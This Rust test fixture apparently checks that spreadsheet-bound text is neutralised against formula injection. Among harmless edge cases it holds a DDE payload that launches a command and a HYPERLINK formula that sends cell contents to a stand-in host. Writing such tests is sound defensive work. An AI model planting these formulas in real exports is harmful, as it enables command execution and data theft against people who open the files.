//! Text that a spreadsheet would reckon, or take for the form of a table.

use super::{Expect, Safe};

pub(super) const TEXTS: &[(&str, &str, Expect)] = &[
    ("eq", "=1+1", Safe),
    ("plus", "+44 20 7946 0000", Safe),
    ("minus", "-2+3", Safe),
    ("at", "@SUM(A1)", Safe),
    ("tab", "\t=1+1", Safe),
    ("cr", "\r=1+1", Safe),
    ("lf", "\n=1+1", Safe),
    ("fullwidth-eq", "\u{ff1d}1+1", Safe),
    ("dde", "=cmd|'/c calc'!A1", Safe),
    ("hyperlink", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")", Safe),
    ("quote-break", "\",\"=1+1", Safe),
    ("semicolon", "a;=1+1", Safe),
    ("leading-space", " =1+1", Safe),
    ("sep-line", "sep=;", Safe),
    ("id-line", "ID;PWXL;N;E", Safe),
    ("long-number", "1234567890123456789", Safe),
    ("leading-zero", "007", Safe),
    ("date-like", "1/2", Safe),
    ("percent", "10%", Safe),
];
